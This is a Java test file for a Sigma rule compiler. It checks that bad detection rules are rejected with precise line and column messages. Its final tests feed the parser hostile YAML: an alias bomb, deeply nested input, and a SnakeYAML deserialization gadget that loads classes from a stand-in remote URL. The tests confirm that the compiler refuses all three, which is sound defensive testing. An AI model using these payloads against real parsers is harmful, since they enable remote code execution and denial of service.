package io.vigil.compiler.sigma;

import static io.vigil.compiler.sigma.SigmaFixtures.compile;
import static io.vigil.compiler.sigma.SigmaFixtures.error;
import static io.vigil.compiler.sigma.SigmaFixtures.rule;
import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.compiler.RuleCompiler;
import io.vigil.compiler.source.Diagnostic;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every rejected Sigma rule names the file, line and column of the construct (the YAML node's
 * start mark plus one, and the offset inside a key or a condition) and what is wrong with it.
 */
class SigmaDiagnosticsTest {
    private static String item(String line) {
        return rule("  sel:\n    " + line + "\n  condition: sel\n");
    }

    static Stream<Arguments> errors() {
        return Stream.of(
                Arguments.of(item("CommandLine|contians: x"),
                        "r.yml:9:17: unknown modifier 'contians' (did you mean 'contains'?)"),
                Arguments.of(item("CommandLine|contains|bogus: x"), "r.yml:9:26: unknown modifier 'bogus'"),
                Arguments.of(item("CommandLine|: x"), "r.yml:9:17: unknown modifier ''"),
                Arguments.of(item("CommandLine|neq: x"), "r.yml:9:17: the negation modifier 'neq' is not supported"),
                Arguments.of(item("CommandLine|hour: 3"),
                        "r.yml:9:17: the timestamp-part modifier 'hour' is not supported"),
                Arguments.of(item("'CommandLine|contians': x"),
                        "r.yml:9:18: unknown modifier 'contians' (did you mean 'contains'?)"),
                Arguments.of(item("CommandLine|contains|re: x"),
                        "r.yml:9:26: 're' must be the first modifier (it reads the value as written)"),
                Arguments.of(item("CommandLine|i: x"),
                        "r.yml:9:17: modifier 'i' is a regular-expression flag and needs 're' before it"),
                Arguments.of(item("CommandLine|exists: yes"), "r.yml:9:17: 'exists' takes true or false, not a string"),
                Arguments.of(item("CommandLine|contains|exists: true"), "r.yml:9:26: 'exists' must be the only modifier"),
                Arguments.of(item("CommandLine|gt: abc"), "r.yml:9:17: modifier 'gt' compares numbers, not a string"),
                Arguments.of(item("CommandLine|contains: null"),
                        "r.yml:9:17: modifier 'contains' does not apply to null"),
                Arguments.of(item("DestinationIp|cidr: 10.0.0.1/8"),
                        "r.yml:9:19: invalid network: '10.0.0.1/8' has host bits set"),
                Arguments.of(item("DestinationIp|cidr: 'host.example'"),
                        "r.yml:9:19: invalid network: not an IPv4 or IPv6 address: 'host.example'"),
                Arguments.of(item("CommandLine|base64|contains: 'a*b'"),
                        "r.yml:9:17: 'base64' cannot encode wildcards or placeholders: 'a*b'"),
                Arguments.of(item("CommandLine|wide: 'caf\u00e9'"), "r.yml:9:17: 'wide' only encodes characters whose"
                        + " UTF-16 bytes are all below 0x80 (as pySigma): 'caf\u00e9'"),
                Arguments.of(item("Image|fieldref: 'Parent*'"),
                        "r.yml:9:11: a field reference has no wildcards: 'Parent*'"),
                Arguments.of(item("CommandLine|re: '(?<=a)b'"),
                        "r.yml:9:21: regular expression not supported by RE2 (linear time): invalid named capture"
                                + " in '(?<=a)b'"),
                Arguments.of(item("User|expand: '%Nobody%'"), "r.yml:9:5: placeholder '%Nobody%' has no value in"
                        + " test-placeholders.yml; give it values in a placeholder file (--placeholders)"),
                Arguments.of(item("CommandLine: []"), "r.yml:9:18: 'CommandLine' has an empty value list"),
                Arguments.of(item("CommandLine: {a: b}"),
                        "r.yml:9:18: a detection value is a string, number, boolean or null (or a list of them)"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: sel and not filter\n"),
                        "r.yml:10:26: condition references undefined identifier 'filter'"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: 'sel and not filter'\n"),
                        "r.yml:10:27: condition references undefined identifier 'filter'"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: sel and\n"),
                        "r.yml:10:21: unexpected end of condition. Expecting: <detection name>, 'not', '(', '1 of',"
                                + " 'any of' or 'all of'"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: sel AND sel\n"),
                        "r.yml:10:18: unexpected 'AND' in condition. Expecting: <EOF>"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: sel & sel\n"),
                        "r.yml:10:18: unexpected character '&' in condition"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: sel | count() > 5\n"),
                        "r.yml:10:18: aggregation expressions in the condition ('| count() ...', deprecated Sigma 1"
                                + " syntax) are not supported; use a Sigma correlation rule or a Vigil burst rule"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n  condition: 1 of filter*\n"),
                        "r.yml:10:14: '1 of filter*' matches no detection"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n"), "r.yml:7:1: 'detection' has no 'condition'"),
                Arguments.of(rule("  condition: sel\n"),
                        "r.yml:8:3: 'detection' has no named detection besides 'condition'"),
                Arguments.of(rule("  sel:\n  condition: sel\n"), "r.yml:8:3: detection 'sel' is empty (null)"),
                Arguments.of(rule("  sel:\n    - a\n    - Image: b\n  condition: sel\n"),
                        "r.yml:9:5: detection 'sel' mixes field mappings and plain keywords in one list"),
                Arguments.of(rule("  sel:\n    CommandLine: a\n    CommandLine: b\n  condition: sel\n"),
                        "r.yml:10:5: duplicate key 'CommandLine'"),
                Arguments.of("title: t\nlogsource:\n  product: windows\n  category: file_event\ndetection:\n  sel:\n"
                        + "    Image: a\n  condition: sel\n", "r.yml:3:3: unsupported logsource product=windows"
                        + " category=file_event; Vigil runs Sigma rules of: process_creation (product=windows"
                        + " category=process_creation), ps_script (product=windows category=ps_script)"),
                Arguments.of("title: t\nlogsource:\ndetection:\n  sel:\n    Image: a\n  condition: sel\n",
                        "r.yml:2:1: 'logsource' is empty (null)"),
                Arguments.of("logsource:\n  category: process_creation\n  product: windows\ndetection:\n  sel:\n"
                        + "    Image: a\n  condition: sel\n", "r.yml:1:1: rule has no 'title'"),
                Arguments.of(rule("  sel:\n    Image: a\n  condition: sel\n").replace("level: high", "level: severe"),
                        "r.yml:3:8: unknown level 'severe'. Expecting one of: informational, low, medium, high,"
                                + " critical"),
                Arguments.of("title: t\ncorrelation:\n  type: event_count\n", "r.yml:2:1: Sigma correlation rules are"
                        + " not supported"),
                Arguments.of(rule("  sel:\n    Image: a\n  condition: sel\n") + "---\ntitle: second\n",
                        "r.yml:12:1: rule collections (several YAML documents in one file) are not supported;"
                                + " write one rule per file"),
                Arguments.of("title: [unclosed\n", "r.yml:2:1: invalid YAML: expected ',' or ']', but got"
                        + " <stream end> (while parsing a flow sequence)"),
                Arguments.of("- a\n- b\n", "r.yml:1:1: a Sigma rule is a YAML mapping (title, logsource, detection,"
                        + " ...)"));
    }

    @ParameterizedTest(name = "{1}")
    @MethodSource("errors")
    void rejectsWithThePosition(String yaml, String expected) {
        assertThat(error(yaml)).isEqualTo(expected);
    }

    @Test
    void warnsAboutAFieldNoEventTypeCarries() {
        RuleCompiler.FileResult result = compile(item("Commandline|contains: x"));
        assertThat(result.loaded()).isTrue();
        assertThat(result.diagnostics()).extracting(Diagnostic::toString).containsExactly(
                "warning: r.yml:9:5: field 'Commandline' is not carried by any event type of logsource"
                        + " process_creation (sysmon:1, security:4688), so this test is never true (did you mean"
                        + " 'CommandLine'?)");
    }

    @Test
    void warnsAboutAnUnusedDetection() {
        RuleCompiler.FileResult result = compile(rule("  sel:\n    Image: a\n  filter:\n    Image: b\n"
                + "  condition: sel\n"));
        assertThat(result.loaded()).isTrue();
        assertThat(result.warnings()).extracting(Diagnostic::toString)
                .containsExactly("warning: r.yml:11:5: detection 'filter' is not used by the condition");
    }

    @Test
    void refusesAliasBombs() {
        StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            yaml.append('a').append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a")
                    .append(i - 1).append("]\n");
        }
        assertThat(error(yaml.toString())).contains("invalid YAML").contains("aliases");
    }

    @Test
    void refusesDeepNesting() {
        String deep = "title: " + "[".repeat(200) + "]".repeat(200) + "\n";
        assertThat(error(deep)).startsWith("r.yml:").contains("nesting");
    }

    @Test
    void neverConstructsTaggedObjects() {
        String yaml = rule("  sel:\n    Image: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL ['http://example.invalid/']]]]\n  condition: sel\n");
        assertThat(error(yaml)).isEqualTo(
                "r.yml:9:48: a detection value is a string, number, boolean or null (or a list of them)");
    }
}
